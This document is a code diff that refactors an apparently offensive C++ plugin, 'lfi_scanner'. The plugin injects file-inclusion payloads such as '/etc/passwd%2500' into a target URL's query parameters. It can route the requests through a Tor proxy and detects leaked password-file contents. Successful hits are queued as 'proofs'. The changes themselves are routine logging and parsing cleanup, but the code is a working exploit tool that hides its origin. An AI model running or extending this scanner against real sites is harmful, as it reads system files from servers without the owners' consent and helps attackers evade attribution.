@@ -1,14 +1,20 @@
 #include "spectre/plugin.h"
 #include "spectre/proof_queue.h"
 #include "spectre/tor_proxy.h"
+#include "spectre/http_client.h"
+#include "spectre/scan_registry.h"
+#include "spectre/log.h"
+#include "spectre/trace.h"
+#include "spectre/task_memory.h"
+#include "spectre/url_utils.h"
 #include <cpr/cpr.h>
-#include <iostream>
 #include <nlohmann/json.hpp>
-#include <uriparser/Uri.h>
-#include <regex>
 
 namespace {
 
+const spectre::LogSource& logger = spectre::Logger::get_instance().source("lfi_scanner");
+const spectre::TaskType task_type = spectre::intern_task_type("lfi_scanner");
+
 class LFIScanner : public spectre::Plugin {
     std::vector<std::string> payloads = {
         R"(/etc/passwd%2500)",
@@ -178,58 +184,48 @@ public:
     std::string name() const override { return "lfi_scanner"; }
 
     void handle_task(const spectre::Task &task) override {
-        if (task.data.value("type", "") != name()) {
+        if (task.type != task_type) {
             return;
         }
 
-        std::string url = task.data.value("target", "");
+        const std::string& url = task.target;
         if (url.empty()) {
             return;
         }
 
-        std::cout << "[lfi_scanner] scanning " << url << std::endl;
+        logger.info("scanning", {{"target", url}});
 
-        UriUriA uri;
-        if (uriParseSingleUriA(&uri, url.c_str(), nullptr) != URI_SUCCESS) {
-            return;
-        }
-
-        if (uri.query.first) {
-            UriQueryListA* query_list;
-            int item_count;
-            if (uriDissectQueryMallocA(&query_list, &item_count, uri.query.first, uri.query.afterLast) == URI_SUCCESS) {
-                for (int i = 0; i < item_count; ++i) {
-                    std::string param_name = query_list->key;
-                    for (const auto& payload : payloads) {
-                        test_payload(url, param_name, payload);
-                    }
-                    query_list = query_list->next;
-                }
-                uriFreeQueryListA(query_list);
+        // Scratch for the task: the names go back with the arena.
+        auto params = spectre::query_param_names(url, spectre::task_memory());
+        spectre::scan_add_payloads(static_cast<std::uint64_t>(params.size()) * payloads.size());
+        for (const auto& param_name : params) {
+            for (const auto& payload : payloads) {
+                test_payload(url, param_name, payload);
+                spectre::scan_payload_done();
             }
         }
-        uriFreeUriMembersA(&uri);
     }
 
 private:
-    void test_payload(const std::string& base_url, const std::string& param, const std::string& payload) {
-        std::string malicious_url = base_url;
-        std::regex param_regex(param + "=[^&]*");
-        malicious_url = std::regex_replace(malicious_url, param_regex, param + "=" + payload);
+    void test_payload(const std::string& base_url, std::string_view param, const std::string& payload) {
+        std::string malicious_url = spectre::with_query_param(base_url, param, payload);
 
         cpr::Session session;
-        session.SetUrl(cpr::Url{malicious_url});
+        spectre::HttpClient::get_instance().set_url(session, malicious_url);
         session.SetTimeout(cpr::Timeout{10000});
         if (spectre::TorProxy::get_instance().is_available()) {
             session.SetProxies({{"http", "socks5://127.0.0.1:9050"},
                                 {"https", "socks5://127.0.0.1:9050"}});
         }
-        cpr::Response r = session.Get();
+        cpr::Response r = spectre::HttpClient::get_instance().get(session);
 
-        if (r.status_code == 200 && r.text.find("root:x:0:0") != std::string::npos) {
-            std::cout << "[lfi_scanner] VULNERABILITY DISCOVERED" << std::endl;
-            std::cout << "  -> Target: " << base_url << std::endl;
-            std::cout << "  -> Payload: " << payload << std::endl;
+        bool disclosed = false;
+        if (r.status_code == 200) {
+            spectre::TraceSpan span("passwd_signature", "matcher");
+            disclosed = r.text.find("root:x:0:0") != std::string::npos;
+        }
+        if (disclosed) {
+            logger.warn("vulnerability discovered", {{"target", base_url}, {"payload", payload}});
             submit_proof(base_url, payload, malicious_url);
         }
     }
@@ -248,7 +244,7 @@ private:
             ""
         };
         spectre::enqueue_proof(proof);
-        std::cout << "[lfi_scanner] proof queued" << std::endl;
+        logger.debug("proof queued");
     }
 };
 